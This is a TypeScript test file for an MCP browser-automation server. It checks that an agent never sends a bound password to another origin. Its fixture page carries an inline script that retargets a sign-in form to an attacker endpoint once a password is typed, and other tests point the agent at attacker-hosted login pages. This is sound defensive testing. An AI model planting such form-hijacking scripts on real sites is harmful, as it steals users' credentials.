@@ -1,0 +1,236 @@
+import { createServer, type Server } from "node:http"
+import type { AddressInfo } from "node:net"
+import { Client } from "@modelcontextprotocol/sdk/client/index.js"
+import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js"
+import {
+  type AttackerOrigin,
+  FIXTURE_USERS,
+  type FixtureSite,
+  startAttackerOrigin,
+  startFixtureSite,
+} from "@sextant/fixture-site"
+import { secretForms } from "@sextant/memory"
+import { afterAll, beforeAll, describe, expect, it } from "vitest"
+import { type HttpMcpServer, type ServerOptionsInput, serveHttp } from "../src/index.ts"
+
+/**
+ * An MCP client (the SDK's, over HTTP with the token) driving real headless Chromium onto pages that
+ * try to take the password to another origin. The attacker origin logs every request; whatever the
+ * client asks, it never receives the password, and each refusal says which flag would allow it.
+ */
+
+const user = FIXTURE_USERS[0]!
+const PASSWORD = user.password
+
+type Answer = { content: Array<{ type: string; text?: string }>; isError?: boolean }
+const textOf = (answer: Answer): string => answer.content.map((block) => block.text ?? "").join("\n")
+
+let site: FixtureSite
+let attacker: AttackerOrigin
+/** A page on its own origin whose sign-in form points at the attacker once something is typed into it. */
+let switching: { url: string; server: Server }
+const servers: Array<HttpMcpServer> = []
+
+beforeAll(async () => {
+  site = await startFixtureSite({ port: 0, seed: 3 })
+  attacker = await startAttackerOrigin()
+  const page = (
+    to: string,
+  ) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Sign in</title></head><body>
+<h1>Sign in</h1>
+<form method="post" action="/signed-in" aria-label="Sign in">
+<label for="email">Email</label><input type="email" name="email" id="email">
+<label for="password">Password</label><input type="password" name="password" id="password">
+<p><button type="submit" id="login-btn">Sign in</button></p>
+</form>
+<script>
+// Harmless while the agent looks; once a password is in, the form posts elsewhere.
+document.querySelector("#password").addEventListener("input", () => {
+  document.querySelector("form").action = ${JSON.stringify(`${to}/collect`)}
+})
+</script></body></html>`
+  const server = createServer((request, response) => {
+    response.writeHead(200, { "content-type": "text/html; charset=utf-8", "cache-control": "no-store" })
+    response.end(request.url === "/signed-in" ? "<p>Signed in</p>" : page(attacker.url))
+  })
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", () => resolve()))
+  switching = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server }
+}, 60_000)
+
+afterAll(async () => {
+  await Promise.all(servers.map((server) => server.close()))
+  await attacker?.close()
+  await site?.close()
+  switching?.server.closeAllConnections()
+  await new Promise<void>((resolve) => (switching ? switching.server.close(() => resolve()) : resolve()))
+})
+
+/** A server with these options and the password as its only secret, and an SDK client connected to it. */
+const connect = async (options: ServerOptionsInput, http: { idleTimeoutMs?: number } = {}) => {
+  const server = await serveHttp(
+    { secrets: ["password"], secretValues: { password: PASSWORD }, ...options },
+    http,
+  )
+  servers.push(server)
+  const transport = new StreamableHTTPClientTransport(new URL(server.url), {
+    requestInit: { headers: { Authorization: `Bearer ${server.token}` } },
+  })
+  const client = new Client({ name: "sextant-test", version: "0.0.0" })
+  await client.connect(transport)
+  const call = async (name: string, args: Record<string, unknown> = {}) =>
+    (await client.callTool({ name, arguments: args })) as Answer
+  /** The ref of the outline line matching `pattern`, from a fresh look. */
+  const refOf = async (pattern: RegExp) => {
+    const looked = textOf(await call("look", { mode: "interactive" }))
+    const ref = looked
+      .split("\n")
+      .find((line) => pattern.test(line))
+      ?.match(/^(e\d+) /)?.[1]
+    if (ref === undefined) throw new Error(`no ${pattern} in the outline:\n${looked}`)
+    return ref
+  }
+  return { server, client, transport, call, refOf }
+}
+
+/** Whether any request the attacker received from `since` on holds the password in any spelling. */
+const leakedSince = (since: number): boolean =>
+  attacker.requests
+    .slice(since)
+    .some((request) => secretForms(PASSWORD).some((form) => JSON.stringify(request).includes(form)))
+
+const settle = () => new Promise((resolve) => setTimeout(resolve, 500))
+
+describe("act types a secret only where the secrets are bound", () => {
+  it("refuses <secret:password> in a form that posts to another origin, and Enter sends nothing there", async () => {
+    const { call, refOf } = await connect({
+      constraints: { allowedOrigins: [site.url, attacker.url], allowFormSubmission: true },
+      secretOrigins: [site.url],
+    })
+    const since = attacker.requests.length
+    const opened = await call("go", {
+      url: `${site.url}/hostile/offsite-form?to=${encodeURIComponent(attacker.url)}`,
+    })
+    expect(opened.isError).toBeUndefined()
+    const email = await refOf(/^e\d+ textbox Email/)
+    const password = await refOf(/^e\d+ textbox Password/)
+    expect((await call("act", { ref: email, op: "input", value: user.email })).isError).toBeUndefined()
+    const typed = await call("act", { ref: password, op: "input", value: "<secret:password>" })
+    expect(typed.isError).toBe(true)
+    expect(textOf(typed)).toContain(`where the field's form action is ${attacker.url}`)
+    expect(textOf(typed)).toContain("--secret-origin")
+    await call("act", { ref: password, op: "press", value: "Enter" })
+    await settle()
+    expect(leakedSince(since)).toBe(false)
+    expect(textOf(typed)).not.toContain(PASSWORD)
+  }, 60_000)
+
+  it("refuses Enter and the submit button in a form that points at another origin once the secret is in it", async () => {
+    const { call, refOf } = await connect({
+      constraints: { allowFormSubmission: true },
+      secretOrigins: [switching.url],
+    })
+    const since = attacker.requests.length
+    await call("go", { url: `${switching.url}/` })
+    const password = await refOf(/^e\d+ textbox Password/)
+    const typed = await call("act", { ref: password, op: "input", value: "<secret:password>" })
+    expect(typed.isError).toBeUndefined()
+    const entered = await call("act", { ref: password, op: "press", value: "Enter" })
+    await settle()
+    expect(leakedSince(since)).toBe(false)
+    expect(textOf(entered)).toContain(`${password} sends what is typed to ${attacker.url}`)
+    expect(entered.isError).toBe(true)
+    const signIn = await refOf(/^e\d+ button Sign in/)
+    const clicked = await call("act", { ref: signIn, op: "click" })
+    expect(clicked.isError).toBe(true)
+    expect(textOf(clicked)).toContain(attacker.url)
+    await settle()
+    expect(leakedSince(since)).toBe(false)
+  }, 60_000)
+
+  it("refuses a secret when no origin binds it, naming the flags", async () => {
+    const { call, refOf } = await connect({ constraints: { allowFormSubmission: true } })
+    await call("go", { url: `${site.url}/login` })
+    const password = await refOf(/^e\d+ textbox Password/)
+    const typed = await call("act", { ref: password, op: "input", value: "<secret:password>" })
+    expect(typed.isError).toBe(true)
+    expect(textOf(typed)).toContain("secrets are bound to no origin")
+    expect(textOf(typed)).toContain("--secret-origin")
+    expect(textOf(typed)).toContain("--allowed-origin")
+  }, 60_000)
+})
+
+describe("run", () => {
+  it("does not bind the secret to the origin of the URL it is given", async () => {
+    const { call } = await connect({
+      constraints: { allowFormSubmission: true },
+      secretOrigins: [site.url],
+    })
+    const since = attacker.requests.length
+    const ran = await call("run", {
+      goal: `log in as ${user.email} with password <secret:password>`,
+      url: `${attacker.url}/login`,
+    })
+    await settle()
+    expect(leakedSince(since)).toBe(false)
+    expect(ran.isError).toBe(true)
+    expect(textOf(ran)).not.toMatch(/^COMPLETED/)
+    expect(textOf(ran)).toContain(`which is not an origin the secrets are bound to (${site.url})`)
+  }, 90_000)
+
+  it("counts against the session's quotas, which it cannot start afresh", async () => {
+    const { call } = await connect({
+      constraints: { allowedOrigins: [site.url], quotas: { navigations: 2 } },
+    })
+    expect((await call("go", { url: `${site.url}/` })).isError).toBeUndefined()
+    // The run may use what is left (one navigation) and that is charged to the session.
+    const first = await call("run", { goal: `go to ${site.url}/products` })
+    expect(textOf(first)).toMatch(/^COMPLETED/)
+    const after = await call("go", { url: `${site.url}/login` })
+    expect(after.isError).toBe(true)
+    expect(textOf(after)).toContain("the navigation quota of 2 is used up")
+    // A second run gets none back.
+    const second = await call("run", { goal: `go to ${site.url}/login` })
+    expect(textOf(second)).not.toMatch(/^COMPLETED/)
+    expect(textOf(second)).toContain("navigation quota of 0 is used up")
+  }, 90_000)
+})
+
+describe("an idle session", () => {
+  it("ends after the idle timeout and closes its browser", async () => {
+    const { server, call, transport } = await connect(
+      { constraints: { allowedOrigins: [site.url] } },
+      { idleTimeoutMs: 1_500 },
+    )
+    expect((await call("go", { url: `${site.url}/` })).isError).toBeUndefined()
+    const processes = server.browserProcesses()
+    expect(processes.length).toBeGreaterThan(0)
+    expect(server.clients()).toBe(1)
+    const alive = (pid: number) => {
+      try {
+        process.kill(pid, 0)
+        return true
+      } catch {
+        return false
+      }
+    }
+    expect(processes.every(alive)).toBe(true)
+    const deadline = Date.now() + 15_000
+    while ((server.clients() > 0 || processes.some(alive)) && Date.now() < deadline) {
+      await new Promise((resolve) => setTimeout(resolve, 100))
+    }
+    expect(server.clients()).toBe(0)
+    expect(server.browserProcesses()).toEqual([])
+    expect(processes.filter(alive)).toEqual([])
+    const response = await fetch(server.url, {
+      method: "POST",
+      headers: {
+        "content-type": "application/json",
+        accept: "application/json, text/event-stream",
+        authorization: `Bearer ${server.token}`,
+        "mcp-session-id": transport.sessionId!,
+      },
+      body: JSON.stringify({ jsonrpc: "2.0", id: 9, method: "tools/list", params: {} }),
+    })
+    expect(response.status).toBe(404)
+  }, 60_000)
+})
